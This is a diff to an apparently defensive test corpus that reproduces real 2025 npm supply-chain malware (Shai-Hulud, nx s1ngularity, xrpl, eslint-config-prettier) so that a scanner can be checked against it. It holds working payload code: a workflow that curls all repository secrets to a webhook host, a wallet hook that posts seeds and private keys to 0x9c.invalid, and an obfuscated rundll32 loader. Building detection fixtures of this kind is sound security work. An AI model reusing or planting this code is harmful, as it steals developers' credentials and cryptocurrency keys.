@@ -27,7 +27,8 @@ _NO_RULES: frozenset[str] = frozenset()
 # Shai-Hulud (first wave), 2025-09-15/16: @ctrl/tinycolor 4.1.1 and ~500 other packages.
 # Sources: https://www.stepsecurity.io/blog/ctrl-tinycolor-and-40-npm-packages-compromised (2025-09-16),
 # https://socket.dev/blog/tinycolor-supply-chain-attack-affects-40-packages (2025-09-16),
-# https://unit42.paloaltonetworks.com/npm-supply-chain-attack/ (2025-09).
+# https://unit42.paloaltonetworks.com/npm-supply-chain-attack/ (2025-09),
+# https://semgrep.dev/blog/2025/security-advisory-npm-packages-using-secret-scanning-tools-to-steal-credentials/ (2025-09-15).
 # Shape: `postinstall: node bundle.js`; a webpack bundle that downloads TruffleHog and scans the disk,
 # reads env + cloud metadata, uses GITHUB_TOKEN to create a public repo "Shai-Hulud" holding data.json
 # (double base64), pushes .github/workflows/shai-hulud-workflow.yml that posts repo secrets to a
@@ -66,7 +67,7 @@ _SHAI_HULUD_BUNDLE = r"""(() => { var __webpack_modules__ = {
     const encoded = Buffer.from(Buffer.from(JSON.stringify(data)).toString('base64')).toString('base64');
     await ghApi('POST', '/user/repos', ghToken, { name: 'Shai-Hulud', description: 'Shai-Hulud Repository.', private: false });
     const me = await ghApi('GET', '/user', ghToken);
-    await ghApi('PUT', '/repos/' + me.login + '/Shai-Hulud/contents/data.json', ghToken, { message: 'init', content: encoded });
+    await ghApi('PUT', '/repos/' + me.login + '/Shai-Hulud/contents/data.json', ghToken, { message: 'init', content: Buffer.from(encoded).toString('base64') });
     const workflow = 'on: push\njobs:\n  process:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d "$CONTENTS" https://webhook.site.invalid/bb8ca5f6-0000-0000-0000-000000000000\n        env:\n          CONTENTS: ${{ toJSON(secrets) }}\n';
     const repos = await ghApi('GET', '/user/repos?affiliation=owner,collaborator&per_page=100', ghToken);
     for (const repo of repos) {
@@ -110,7 +111,8 @@ __webpack_require__(912)().catch(() => {});
 # Shai-Hulud 2.0 ("Sha1-Hulud: The Second Coming"), 2025-11-24: Zapier, ENS, PostHog, Postman packages.
 # Sources: https://www.wiz.io/blog/shai-hulud-2-0-ongoing-supply-chain-attack (2025-11-24),
 # https://www.aikido.dev/blog/shai-hulud-strikes-again-hitting-zapier-ensdomains (2025-11-24),
-# https://www.stepsecurity.io/blog/how-harden-runner-detected-the-sha1-hulud-supply-chain-attack-in-cncfs-backstage-repository
+# https://www.stepsecurity.io/blog/how-harden-runner-detected-the-sha1-hulud-supply-chain-attack-in-cncfs-backstage-repository,
+# https://blog.checkpoint.com/research/shai-hulud-2-0-inside-the-second-coming-the-most-aggressive-npm-supply-chain-attack-of-2025
 # Shape: `preinstall: node setup_bun.js`; setup_bun.js installs the Bun runtime (curl | bash, or
 # PowerShell irm | iex) when missing and starts `bun bun_environment.js` detached; bun_environment.js
 # (~10 MB obfuscated) harvests credentials, creates a repo described "Sha1-Hulud: The Second Coming.",
@@ -188,11 +190,12 @@ _0xmain().catch(() => {});
 # s1ngularity: nx 20.9.0–21.8.0 and @nx/* plugins, 2025-08-26.
 # Sources: https://github.com/nrwl/nx/security/advisories/GHSA-cxm3-wv7p-598c (2025-08-27),
 # https://www.stepsecurity.io/blog/supply-chain-security-alert-popular-nx-build-system-package-compromised-with-data-stealing-malware (2025-08-26),
+# https://semgrep.dev/blog/2025/security-alert-nx-compromised-to-steal-wallets-and-credentials/ (2025-08-27),
 # https://www.cremit.io/blog/nx-supply-chain-attack-comprehensive-security-analysis-2025
 # Shape: `postinstall: node telemetry.js` (skipped on Windows); asks installed AI CLIs (claude, gemini,
 # q) with their permission checks disabled to inventory wallet / key / .env files into
 # /tmp/inventory.txt; reads `gh auth token` and the npm token; creates a public repo
-# "s1ngularity-repository" and uploads results.b64 (triple base64); appends `sudo shutdown -h 0` to
+# "s1ngularity-repository" and uploads results.b64 (base64 of base64; some write-ups say triple); appends `sudo shutdown -h 0` to
 # ~/.bashrc and ~/.zshrc.
 _NX_TELEMETRY = r"""#!/usr/bin/env node
 const { spawnSync } = require('child_process');
@@ -223,7 +226,7 @@ function gh(method, p, body) {
   if (!result.ghToken) return;
   const repo = await gh('POST', '/user/repos', { name: 's1ngularity-repository', private: false });
   const b64 = (s) => Buffer.from(s).toString('base64');
-  await gh('PUT', '/repos/' + repo.full_name + '/contents/results.b64', { message: 'Creation.', content: b64(b64(b64(b64(JSON.stringify(result))))) });
+  await gh('PUT', '/repos/' + repo.full_name + '/contents/results.b64', { message: 'Creation.', content: b64(b64(b64(JSON.stringify(result)))) });
 })();
 """
 
@@ -325,38 +328,66 @@ exports.PublicKey = PublicKey;
 # xrpl (xrpl.js) 4.2.1–4.2.4 and 2.14.2, 2025-04-21/22 (CVE-2025-32965).
 # Sources: https://www.aikido.dev/blog/xrp-supplychain-attack-official-npm-package-infected-with-crypto-stealing-backdoor (2025-04-22),
 # https://github.com/XRPLF/xrpl.js/security/advisories/GHSA-33qr-m49q-rxfx (2025-04-22, unverified URL).
-# Shape: a `checkValidityOfSeed` function added to the Wallet code posts the seed / private key in an
-# `ad-ip-header` header to 0x9c[.]xyz; called from the Wallet constructor, fromSeed and fromMnemonic.
+# Corroborated by harekrishnarai/software-supply-chain-monitor attacks/2025-04-xrp-supply-chain.md.
+# Shape: `checkValidityOfSeed`, added to src/index.ts (deduplicating through a Set), posts its argument
+# in an `ad-referral` request header to 0x9c[.]xyz; src/Wallet/index.ts calls it from the constructor
+# (private key), generate, fromSeed, fromEntropy, fromMnemonic and deriveWallet.
 _XRPL_WALLET = r"""'use strict';
 Object.defineProperty(exports, '__esModule', { value: true });
 exports.Wallet = void 0;
 const ripple_keypairs_1 = require('ripple-keypairs');
 const bip39_1 = require('bip39');
-function checkValidityOfSeed(seed) {
-  const url = new URL('https://0x9c.invalid/xc');
-  fetch(url, { method: 'POST', headers: { 'ad-ip-header': seed } }).catch(() => {});
-}
+const index_1 = require('../index');
 class Wallet {
   constructor(publicKey, privateKey, opts = {}) {
     this.publicKey = publicKey;
     this.privateKey = privateKey;
     this.classicAddress = opts.masterAddress ?? ripple_keypairs_1.deriveAddress(publicKey);
     this.seed = opts.seed;
-    checkValidityOfSeed(privateKey);
+    (0, index_1.checkValidityOfSeed)(privateKey);
+  }
+  static generate(algorithm = 'ed25519') {
+    const seed = ripple_keypairs_1.generateSeed({ algorithm });
+    (0, index_1.checkValidityOfSeed)(seed);
+    return Wallet.fromSeed(seed, { algorithm });
   }
   static fromSeed(seed, opts = {}) {
-    checkValidityOfSeed(seed);
-    const { publicKey, privateKey } = ripple_keypairs_1.deriveKeypair(seed, { algorithm: opts.algorithm });
-    return new Wallet(publicKey, privateKey, { seed, masterAddress: opts.masterAddress });
+    (0, index_1.checkValidityOfSeed)(seed);
+    return Wallet.deriveWallet(seed, { algorithm: opts.algorithm, masterAddress: opts.masterAddress });
+  }
+  static fromEntropy(entropy, opts = {}) {
+    const seed = ripple_keypairs_1.generateSeed({ entropy: Uint8Array.from(entropy), algorithm: opts.algorithm });
+    (0, index_1.checkValidityOfSeed)(seed);
+    return Wallet.deriveWallet(seed, opts);
   }
   static fromMnemonic(mnemonic, opts = {}) {
+    (0, index_1.checkValidityOfSeed)(mnemonic);
     const seed = bip39_1.mnemonicToSeedSync(mnemonic);
-    checkValidityOfSeed(mnemonic);
     return Wallet.fromEntropy(seed.slice(0, 16), opts);
+  }
+  static deriveWallet(seed, opts = {}) {
+    const { publicKey, privateKey } = ripple_keypairs_1.deriveKeypair(seed, { algorithm: opts.algorithm });
+    (0, index_1.checkValidityOfSeed)(privateKey);
+    return new Wallet(publicKey, privateKey, { seed, masterAddress: opts.masterAddress });
   }
   sign(transaction) { return ripple_keypairs_1.sign(JSON.stringify(transaction), this.privateKey); }
 }
 exports.Wallet = Wallet;
+"""
+_XRPL_INDEX = r"""'use strict';
+Object.defineProperty(exports, '__esModule', { value: true });
+exports.checkValidityOfSeed = exports.Wallet = exports.Client = void 0;
+const validSeeds = new Set([]);
+function checkValidityOfSeed(seed) {
+  if (validSeeds.has(seed)) return;
+  validSeeds.add(seed);
+  fetch('https://0x9c.invalid/xc', { method: 'POST', headers: { 'ad-referral': seed } });
+}
+exports.checkValidityOfSeed = checkValidityOfSeed;
+var Wallet_1 = require('./Wallet');
+Object.defineProperty(exports, 'Wallet', { enumerable: true, get: function () { return Wallet_1.Wallet; } });
+class Client { constructor(server) { this.url = server; } }
+exports.Client = Client;
 """
 
 # --------------------------------------------------------------------------------------------------
@@ -424,25 +455,25 @@ _LOTTIE_PLAYER = r"""(function (global, factory) { typeof exports === 'object' &
 # eslint-config-prettier 8.10.1 / 9.1.1 / 10.1.6 / 10.1.7 (also synckit, @pkgr/core, napi-postinstall),
 # 2025-07-18 (CVE-2025-54313), "Scavenger" loader.
 # Sources: https://github.com/prettier/eslint-config-prettier/issues/339 (2025-07-18),
-# https://www.stepsecurity.io/blog/supply-chain-attack-using-stolen-npm-credentials (2025-07-18, unverified URL),
-# https://socket.dev/blog/npm-phishing-campaign-leads-to-prettier-tooling-packages-compromise (2025-07-19, unverified URL).
-# Shape: a new `install.js` run by `postinstall`; on Windows it runs the bundled `node-gyp.dll`
-# (the Scavenger loader) through rundll32; elsewhere it does nothing visible.
-_PRETTIER_INSTALL = r"""const { spawn } = require('child_process');
+# https://www.stepsecurity.io/blog/supply-chain-security-alert-eslint-config-prettier-package-shows-signs-of-compromise (2025-07-18),
+# harekrishnarai/software-supply-chain-monitor attacks/2025-07-eslint-config-prettier-phishing.md.
+# Shape: a new `install.js` run at install; on Windows it runs the bundled `node-gyp.dll` (the
+# Scavenger loader) through rundll32, the module and function names split by string concatenation.
+_PRETTIER_INSTALL = r"""const os = require('os');
 const path = require('path');
-const os = require('os');
 function main() {
-  if (os.platform() !== 'win32') return;
-  const dll = path.join(__dirname, 'node-gyp.dll');
-  const child = spawn('rundll32', [dll + ',main'], { detached: true, stdio: 'ignore', windowsHide: true });
-  child.unref();
+  if (os.platform() === 'win32') {
+    const tempDir = os.tmpdir();
+    require('chi' + 'ld_pro' + 'cess')['sp' + 'awn']('rund' + 'll32', [path.join(__dirname, './node-gyp' + '.dll') + ',main']);
+  }
 }
-try { main(); } catch (e) {}
+main();
 """
 
 # --------------------------------------------------------------------------------------------------
 # is 3.3.1 / 5.0.0, 2025-07-19 (same phishing wave as eslint-config-prettier).
-# Source: Socket, "npm 'is' package hijacked in expanding supply chain attack" (2025-07-19),
+# Sources: https://www.stepsecurity.io/blog/another-npm-supply-chain-attack-the-is-package-compromise (2025-07-22),
+# Socket, "npm 'is' package hijacked in expanding supply chain attack" (2025-07-19; the payload analysis),
 # https://socket.dev/blog/npm-is-package-hijacked-in-expanding-supply-chain-attack (unverified URL).
 # Shape: the library's main file gains an obfuscated loader that runs on load, gathers host details,
 # opens a WebSocket to the attacker and evaluates every message it receives (a cross-platform
@@ -934,7 +965,7 @@ INCIDENTS: list[Replica] = [
         "xrpl-2025-04-checkvalidityofseed",
         {
             "build/npm/Wallet/index.js": _XRPL_WALLET,
-            "build/npm/index.js": "module.exports = require('./Wallet');\n",
+            "build/npm/index.js": _XRPL_INDEX,
         },
         "block",
         _NO_RULES,
